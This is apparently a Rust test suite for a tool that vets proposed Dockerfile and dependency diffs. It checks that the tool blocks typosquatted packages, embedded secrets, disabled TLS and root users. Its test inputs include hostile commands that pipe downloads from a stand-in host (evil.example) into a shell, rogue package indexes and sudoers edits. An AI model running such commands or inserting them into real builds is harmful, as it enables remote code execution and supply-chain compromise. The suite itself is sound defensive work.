//! Behaviour of `vet_diff` as the conductor sees it: whole diffs in, findings out.

use super::*;

/// A `git diff` that adds `path` with `content`.
fn new_file(path: &str, content: &str) -> String {
    let lines: Vec<&str> = content.lines().collect();
    let mut diff = format!(
        "diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{} @@\n",
        lines.len()
    );
    for line in lines {
        diff.push('+');
        diff.push_str(line);
        diff.push('\n');
    }
    diff
}

/// A Dockerfile that adds `body` after a pinned FROM and ends with a non-root USER.
fn dockerfile_with(body: &str) -> String {
    new_file("worker/Dockerfile", &format!("FROM ubuntu:22.04\n{body}\nUSER user\n"))
}

fn vet(diff: &str) -> Vec<Finding> {
    vet_diff(diff, &VetOptions::default())
}

fn rules_of(findings: &[Finding]) -> Vec<(&'static str, Severity, u32)> {
    findings.iter().map(|f| (f.rule, f.severity, f.line)).collect()
}

fn blocks(findings: &[Finding]) -> Vec<&Finding> {
    findings.iter().filter(|f| f.severity == Severity::Block).collect()
}

#[test]
fn the_real_template_dockerfiles_have_no_blocking_finding() {
    for (path, text) in [
        ("worker/Dockerfile", include_str!("../../templates/worker/Dockerfile")),
        ("infrastructure/Dockerfile", include_str!("../../templates/infrastructure/Dockerfile")),
        ("worker/template.toml", include_str!("../../templates/worker/template.toml")),
        ("README.md", include_str!("../../templates/README.md")),
    ] {
        let findings = vet(&new_file(path, text));
        assert!(blocks(&findings).is_empty(), "{path}: {findings:#?}");
        assert_eq!(verdict(&findings), Verdict::NeedsHuman);
    }
    // The hadolint download is from an allowlisted host and checksum-verified: a warning, not a block.
    let findings =
        vet(&new_file("infrastructure/Dockerfile", include_str!("../../templates/infrastructure/Dockerfile")));
    let download =
        findings.iter().find(|f| f.rule == "package.binary-download").expect("hadolint download is reported");
    assert_eq!(download.severity, Severity::Warn);
    assert!(download.message.contains("checked against a pinned checksum"), "{}", download.message);
}

#[test]
fn an_unknown_package_is_blocked_with_a_clear_message() {
    let findings = vet(&dockerfile_with("RUN npm install -g malicious-package@1.0.0"));
    assert_eq!(rules_of(&findings), vec![("package.unknown", Severity::Block, 2)]);
    assert_eq!(
        findings[0].message,
        "npm package \"malicious-package\" is not in the shipped list of known npm packages (vetting/data/npm.txt); unknown names are blocked because invented packages are a real attack"
    );
    assert_eq!(findings[0].file, "worker/Dockerfile");
    assert_eq!(findings[0].evidence, "RUN npm install -g malicious-package@1.0.0");
    assert_eq!(verdict(&findings), Verdict::Reject);
}

#[test]
fn typosquats_name_the_real_package() {
    let cases = [
        (
            "RUN npm install -g expres@4.21.2",
            "npm package \"expres\" looks like a typosquat of \"express\" (edit distance 1)",
        ),
        (
            "RUN npm install lodahs@4.17.21",
            "npm package \"lodahs\" looks like a typosquat of \"lodash\" (edit distance 1)",
        ),
        (
            "RUN pip install reqeusts==2.32.3",
            "PyPI package \"reqeusts\" looks like a typosquat of \"requests\" (edit distance 1)",
        ),
        (
            "RUN pip install pythondateutil==2.9.0",
            "PyPI package \"pythondateutil\" looks like a typosquat of \"python-dateutil\" (the same name with separators changed)",
        ),
        (
            "RUN pip install dateutil-python==2.9.0",
            "PyPI package \"dateutil-python\" looks like a typosquat of \"python-dateutil\" (the same words in a different order)",
        ),
        (
            "RUN npm install -g @anthropic/claude-code@2.0.77",
            "npm package \"@anthropic/claude-code\" looks like a typosquat of \"@anthropic-ai/claude-code\" (the same package name under a different scope)",
        ),
        ("RUN apt-get install -y curll", "apt package \"curll\" looks like a typosquat of \"curl\" (edit distance 1)"),
    ];
    for (line, message) in cases {
        let findings = vet(&dockerfile_with(line));
        assert_eq!(rules_of(&findings), vec![("package.typosquat", Severity::Block, 2)], "{line}");
        assert_eq!(findings[0].message, message);
    }
    // PEP 503: these spell the listed name.
    for spelling in ["Python_Dateutil==2.9.0", "python.dateutil==2.9.0", "python-dateutil==2.9.0"] {
        let findings = vet(&dockerfile_with(&format!("RUN pip install {spelling}")));
        assert!(findings.is_empty(), "{spelling}: {findings:#?}");
    }
}

#[test]
fn pinned_playwright_with_browsers_does_not_block() {
    let findings =
        vet(&dockerfile_with("RUN npm install -g playwright@1.49.1 && npx playwright install --with-deps chromium"));
    assert!(blocks(&findings).is_empty(), "{findings:#?}");
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn unpinned_npm_and_pip_warn_but_apt_does_not() {
    let findings =
        vet(&dockerfile_with("RUN npm install -g typescript && pip install requests\nRUN apt-get install -y jq"));
    assert_eq!(
        rules_of(&findings),
        vec![("package.unpinned", Severity::Warn, 2), ("package.unpinned", Severity::Warn, 2)]
    );
    assert!(findings[0].message.contains("\"requests\"") || findings[1].message.contains("\"requests\""));
}

#[test]
fn an_added_continuation_line_inside_an_existing_apt_install_is_checked() {
    let diff = "diff --git a/worker/Dockerfile b/worker/Dockerfile
index 1111111..2222222 100644
--- a/worker/Dockerfile
+++ b/worker/Dockerfile
@@ -28,7 +28,9 @@ RUN apt-get update \\
     && apt-get install -y --no-install-recommends \\
         ca-certificates \\
         curl \\
+        nodejs-foo \\
         git \\
+        ripgrep \\
         gnupg \\
         jq \\
";
    let findings = vet(diff);
    assert_eq!(rules_of(&findings), vec![("package.unknown", Severity::Block, 31)], "{findings:#?}");
    assert!(findings[0].message.starts_with("apt package \"nodejs-foo\""));
}

#[test]
fn a_hunk_starting_mid_list_uses_the_hunk_header_to_pick_the_registry() {
    let diff = "diff --git a/worker/Dockerfile b/worker/Dockerfile
--- a/worker/Dockerfile
+++ b/worker/Dockerfile
@@ -31,5 +31,6 @@ RUN apt-get update \\
         git \\
         gnupg \\
         jq \\
+        jqq \\
         python3 \\
         python3-pip \\
";
    let findings = vet(diff);
    assert_eq!(rules_of(&findings), vec![("package.typosquat", Severity::Block, 34)], "{findings:#?}");
}

#[test]
fn line_numbers_are_right_across_hunks_and_with_crlf() {
    let diff = "diff --git a/worker/Dockerfile b/worker/Dockerfile
--- a/worker/Dockerfile
+++ b/worker/Dockerfile
@@ -1,3 +1,4 @@
 FROM ubuntu:22.04
+ADD https://example.com/tool.tar.gz /opt/
 RUN true
 RUN false
@@ -20,3 +21,4 @@ RUN x
 a
 b
+RUN chmod -R 777 /workspace
 c
";
    for text in [diff.to_string(), diff.replace('\n', "\r\n")] {
        let findings = vet(&text);
        assert_eq!(
            rules_of(&findings),
            vec![("dockerfile.remote-add", Severity::Block, 2), ("dockerfile.chmod-777", Severity::Block, 23)],
            "{findings:#?}"
        );
        assert!(!findings[0].evidence.contains('\r'));
    }
}

#[test]
fn secrets_are_blocked_and_never_repeated_in_full() {
    // Assembled at run time so this source file holds nothing a scanner would flag.
    let github = format!("ghp_{}", &"Ab3De5Gh7K".repeat(4)[..36]);
    let anthropic = format!("sk-ant-api03-{}", "Zx9_Yw8-Vu7".repeat(4));
    let e2b = format!("e2b_{}", "0a1b2c3d4e".repeat(4));
    let aws = format!("AKIA{}", "Q3ZX7WLMN2PBABCD");
    let entropy = "Zk8qP2xW9mR4tL7vB3nH6jD1";
    let named = "hunter2hunter2";
    let body = format!(
        "ENV GITHUB_TOKEN={github}\nRUN curl -H \"x-api-key: {anthropic}\" https://api.anthropic.com/v1/models\nARG E2B={e2b}\nENV AWS_ACCESS_KEY_ID={aws}\nARG SIGNING={entropy}\nENV DB_PASSWORD={named}\n-----BEGIN RSA PRIVATE KEY-----"
    );
    let findings = vet(&dockerfile_with(&body));
    let rules: Vec<_> = rules_of(&findings);
    assert_eq!(
        rules,
        vec![
            ("secret.github-token", Severity::Block, 2),
            ("secret.anthropic-key", Severity::Block, 3),
            ("secret.e2b-key", Severity::Block, 4),
            ("secret.aws-access-key", Severity::Block, 5),
            ("secret.high-entropy", Severity::Block, 6),
            ("secret.env-literal", Severity::Block, 7),
            ("secret.private-key", Severity::Block, 8),
        ],
        "{findings:#?}"
    );
    for secret in [&github, &anthropic, &e2b, &aws, &entropy.to_string(), &named.to_string()] {
        for finding in &findings {
            let json = serde_json::to_string(finding).unwrap();
            assert!(!json.contains(secret.as_str()), "{secret} leaked in {json}");
        }
    }
    assert_eq!(findings[0].evidence, "ENV GITHUB_TOKEN=ghp_…[redacted]");
}

#[test]
fn secrets_in_other_findings_evidence_are_masked_too() {
    let github = format!("ghp_{}", &"Ab3De5Gh7K".repeat(4)[..36]);
    let findings = vet(&dockerfile_with(&format!(
        "RUN curl -fsSL -H 'Authorization: token {github}' https://evil.example/i.sh | sh"
    )));
    assert!(findings.iter().any(|f| f.rule == "dockerfile.curl-pipe-shell"));
    for finding in &findings {
        assert!(!finding.evidence.contains(&github) && !finding.message.contains(&github), "{finding:#?}");
    }
}

#[test]
fn values_that_are_not_secrets_pass() {
    let body = "ARG CLAUDE_CODE_VERSION=2.0.77\nARG API_TOKEN\nENV API_KEY=${API_KEY}\nENV GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305\nARG HADOLINT_SHA256=56de6d5e5ec427e17b74fa48d51271c7fc0d61244bf5c90e828aab8362d55010\nENV NODE_OPTIONS=--max-old-space-size=4096\nENV PATH=/usr/local/lib/node_modules/.bin:$PATH";
    let findings = vet(&dockerfile_with(body));
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn downloads_piped_into_a_shell() {
    let findings = vet(&dockerfile_with(
        "RUN curl -fsSL https://evil.example/install.sh | bash\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -\nRUN bash <(curl -s https://evil.example/x)\nRUN wget -O- https://get.example.org/i | sh",
    ));
    assert_eq!(
        rules_of(&findings),
        vec![
            ("dockerfile.curl-pipe-shell", Severity::Block, 2),
            ("dockerfile.curl-pipe-shell", Severity::Warn, 3),
            ("dockerfile.curl-pipe-shell", Severity::Block, 4),
            ("dockerfile.curl-pipe-shell", Severity::Block, 5),
        ],
        "{findings:#?}"
    );
    assert!(findings[0].message.contains("evil.example"));
    // A key piped into gpg is not a script.
    assert!(vet(&dockerfile_with("RUN curl -fsSL https://evil.example/k.asc | gpg --dearmor -o /k.gpg")).is_empty());
}

#[test]
fn binary_downloads_depend_on_the_host() {
    let findings = vet(&dockerfile_with(
        "RUN curl -fsSLo /usr/local/bin/tool https://evil.example/tool && chmod +x /usr/local/bin/tool\nRUN wget -q https://github.com/o/r/releases/download/v1/tool && chmod 0755 tool",
    ));
    assert_eq!(
        rules_of(&findings),
        vec![("package.binary-download", Severity::Block, 2), ("package.binary-download", Severity::Warn, 3)],
        "{findings:#?}"
    );
}

#[test]
fn base_images_must_be_pinned() {
    let diff = new_file(
        "worker/Dockerfile",
        "FROM node:latest AS build\nFROM ubuntu\nFROM python:3.12-slim\nFROM build\nFROM ghcr.io/o/i@sha256:abc\nFROM scratch\nUSER user\n",
    );
    assert_eq!(
        rules_of(&vet(&diff)),
        vec![("dockerfile.unpinned-base", Severity::Block, 1), ("dockerfile.unpinned-base", Severity::Block, 2)]
    );
}

#[test]
fn tls_verification_must_stay_on() {
    let lines = [
        "RUN curl -k https://deb.nodesource.com/x -o /tmp/x",
        "RUN curl -fsSLk -o /tmp/x https://deb.nodesource.com/x",
        "RUN wget --no-check-certificate https://deb.nodesource.com/x",
        "RUN pip install --trusted-host pypi.org requests==2.32.3",
        "RUN npm config set strict-ssl false",
        "ENV GIT_SSL_NO_VERIFY=1",
        "ENV NODE_TLS_REJECT_UNAUTHORIZED=0",
        "ENV PYTHONHTTPSVERIFY 0",
        "RUN echo 'deb [trusted=yes] https://deb.nodesource.com/x nodistro main' > /etc/apt/sources.list.d/x.list",
        "RUN git config --global http.sslVerify false",
    ];
    for line in lines {
        let findings = vet(&dockerfile_with(line));
        assert_eq!(rules_of(&findings), vec![("dockerfile.tls-disabled", Severity::Block, 2)], "{line}: {findings:#?}");
    }
    assert!(vet(&dockerfile_with("RUN curl -fsSL https://deb.nodesource.com/k | gpg --dearmor -o /k")).is_empty());
    // Prose may mention the flag; only config and code count.
    assert!(vet(&new_file("README.md", "Never use --no-check-certificate.\n")).is_empty());
}

#[test]
fn permissions_and_sudo() {
    let cases = [
        ("RUN chmod 777 /workspace", "dockerfile.chmod-777"),
        ("RUN chmod -R a+rwx /opt", "dockerfile.chmod-777"),
        ("COPY --chmod=777 x /x", "dockerfile.chmod-777"),
        ("RUN echo 'user ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "dockerfile.sudoers"),
        ("RUN usermod -aG sudo user", "dockerfile.sudoers"),
        ("COPY sudoers /etc/sudoers.d/user", "dockerfile.sudoers"),
    ];
    for (line, rule) in cases {
        let findings = vet(&dockerfile_with(line));
        assert!(!findings.is_empty(), "{line}");
        assert!(
            findings.iter().all(|f| f.rule == rule && f.line == 2 && f.severity == Severity::Block),
            "{line}: {findings:#?}"
        );
    }
    assert!(vet(&dockerfile_with("RUN chmod 1777 /tmp && chmod 0755 /usr/local/bin/x && chmod go-w /x")).is_empty());
}

#[test]
fn the_final_user_must_not_be_root() {
    let root_last = new_file("worker/Dockerfile", "FROM ubuntu:22.04\nUSER user\nRUN true\nUSER root\n");
    assert_eq!(rules_of(&vet(&root_last)), vec![("dockerfile.final-user-root", Severity::Block, 4)]);
    let no_user = new_file("worker/Dockerfile", "FROM ubuntu:22.04\nRUN true\n");
    assert_eq!(rules_of(&vet(&no_user)), vec![("dockerfile.final-user-root", Severity::Block, 1)]);
    let root_then_user = new_file("worker/Dockerfile", "FROM ubuntu:22.04\nUSER root\nRUN true\nUSER 1000\n");
    assert!(vet(&root_then_user).is_empty());
    // A change at the end of an existing file that switches to root.
    let diff = "diff --git a/worker/Dockerfile b/worker/Dockerfile
--- a/worker/Dockerfile
+++ b/worker/Dockerfile
@@ -80,3 +80,3 @@ WORKDIR /workspace
 # resolves inside the image.
 # hadolint ignore=DL3066
-USER user
+USER 0:0
";
    assert_eq!(rules_of(&vet(diff)), vec![("dockerfile.final-user-root", Severity::Block, 82)]);
}

#[test]
fn scope_rules() {
    let findings = vet(&new_file("scripts/setup.sh", "echo hi\n"));
    assert_eq!(rules_of(&findings), vec![("scope.outside-template", Severity::Warn, 0)]);
    let findings = vet(&new_file(".github/workflows/ci.yml", "on: push\n"));
    assert_eq!(rules_of(&findings), vec![("scope.ci-file", Severity::Block, 0)]);
    let binary = "diff --git a/worker/tool b/worker/tool\nnew file mode 100755\nindex 0000000..1111111\nBinary files /dev/null and b/worker/tool differ\n";
    assert_eq!(rules_of(&vet(binary)), vec![("scope.binary-file", Severity::Block, 0)]);
    let deleted = "diff --git a/infrastructure/Dockerfile b/infrastructure/Dockerfile\ndeleted file mode 100644\n--- a/infrastructure/Dockerfile\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-FROM ubuntu:22.04\n";
    let findings = vet(deleted);
    assert_eq!(rules_of(&findings), vec![("scope.template-deleted", Severity::Warn, 0)]);
    assert_eq!(findings[0].file, "infrastructure/Dockerfile");
    let big = new_file("worker/notes.md", &"x\n".repeat(30));
    let options = VetOptions { max_changed_lines: 20, ..VetOptions::default() };
    assert_eq!(rules_of(&vet_diff(&big, &options)), vec![("scope.too-large", Severity::Block, 0)]);
}

#[test]
fn shell_scripts_get_command_rules() {
    let findings = vet(&new_file(
        "worker/setup.sh",
        "#!/bin/bash\nset -e\napt-get install -y \\\n  jq \\\n  totally-made-up-pkg\n",
    ));
    assert_eq!(rules_of(&findings), vec![("package.unknown", Severity::Block, 5)]);
}

#[test]
fn requirement_files_are_checked_like_pip_install() {
    let findings = vet(&new_file("worker/requirements.txt", "requests==2.32.3\nreqeusts==2.32.3\n# comment\n"));
    assert_eq!(rules_of(&findings), vec![("package.typosquat", Severity::Block, 2)]);
}

#[test]
fn a_malformed_diff_blocks() {
    let diff = "diff --git a/worker/Dockerfile b/worker/Dockerfile\n--- a/worker/Dockerfile\n+++ b/worker/Dockerfile\n@@ -1,1 +1,9 @@\n+FROM ubuntu:22.04\n";
    assert!(vet(diff).iter().any(|f| f.rule == "diff.malformed" && f.severity == Severity::Block));
}

#[test]
fn findings_are_sorted_and_truncation_keeps_the_verdict() {
    let mut body = String::new();
    for _ in 0..30 {
        body.push_str("RUN npm install -g typescript\n");
    }
    body.push_str("RUN npm install -g malicious-package@1.0.0\n");
    let diff = dockerfile_with(&body);
    let all = vet(&diff);
    let mut sorted = all.clone();
    sorted.sort_by(|a, b| (&a.file, a.line, a.rule).cmp(&(&b.file, b.line, b.rule)));
    assert_eq!(all, sorted);
    let options = VetOptions { max_findings: 5, ..VetOptions::default() };
    let few = vet_diff(&diff, &options);
    assert_eq!(few.len(), 5);
    assert_eq!(verdict(&few), Verdict::Reject);
    assert!(few.iter().any(|f| f.rule == "package.unknown"));
    assert_eq!(few.last().unwrap().rule, "vetting.truncated");
}

#[test]
fn allowlist_entries_with_a_leading_dot_cover_subdomains() {
    let options =
        VetOptions { download_allowlist: vec![".example.com".into(), "exact.org".into()], ..VetOptions::default() };
    assert!(options.host_allowed(Some("a.example.com")));
    assert!(options.host_allowed(Some("example.com")));
    assert!(!options.host_allowed(Some("badexample.com")));
    assert!(options.host_allowed(Some("EXACT.org")));
    assert!(!options.host_allowed(Some("sub.exact.org")));
    assert!(!options.host_allowed(None));
}

#[test]
fn local_add_and_copy_are_fine_but_remote_add_blocks() {
    assert!(vet(&dockerfile_with("ADD tools.tar.gz /opt/\nCOPY --chown=user:user . /workspace")).is_empty());
    let findings = vet(&dockerfile_with("ADD --checksum=sha256:abc https://example.com/t.tgz /opt/"));
    assert_eq!(rules_of(&findings), vec![("dockerfile.remote-add", Severity::Block, 2)]);
}

#[test]
fn package_indexes_other_than_the_registries_block() {
    let cases = [
        (
            "worker/Dockerfile",
            "FROM ubuntu:22.04\nRUN pip install --extra-index-url https://pkgs.evil.example/simple requests==2.32.3\nUSER user\n",
            2,
        ),
        ("worker/Dockerfile", "FROM ubuntu:22.04\nENV PIP_INDEX_URL=https://pkgs.evil.example/simple\nUSER user\n", 2),
        (
            "worker/Dockerfile",
            "FROM ubuntu:22.04\nRUN npm config set registry https://npm.evil.example/\nUSER user\n",
            2,
        ),
        ("worker/.npmrc", "@acme:registry=https://npm.evil.example/\n", 1),
        ("worker/requirements.txt", "--extra-index-url https://pkgs.evil.example/simple\nrequests==2.32.3\n", 1),
    ];
    for (path, content, line) in cases {
        let findings = vet(&new_file(path, content));
        assert_eq!(rules_of(&findings), vec![("package.custom-index", Severity::Block, line)], "{path}: {findings:#?}");
    }
    let official =
        "FROM ubuntu:22.04\nRUN pip install --index-url https://pypi.org/simple requests==2.32.3\nUSER user\n";
    assert!(vet(&new_file("worker/Dockerfile", official)).is_empty());
}

#[test]
fn a_twilio_account_sid_blocks_only_with_its_token_nearby() {
    let sid = format!("AC{}", "0123456789abcdef".repeat(2));
    let token = "fedcba9876543210".repeat(2);
    let alone = vet(&new_file("worker/twilio.env", &format!("ACCOUNT={sid}\n")));
    assert!(alone.is_empty(), "{alone:#?}");
    let paired = vet(&new_file("worker/twilio.env", &format!("ACCOUNT={sid}\nREGION=us1\nAUTH={token}\n")));
    assert_eq!(rules_of(&paired), vec![("secret.twilio", Severity::Block, 3)]);
    assert!(!paired[0].evidence.contains(&token), "{:?}", paired[0].evidence);
}
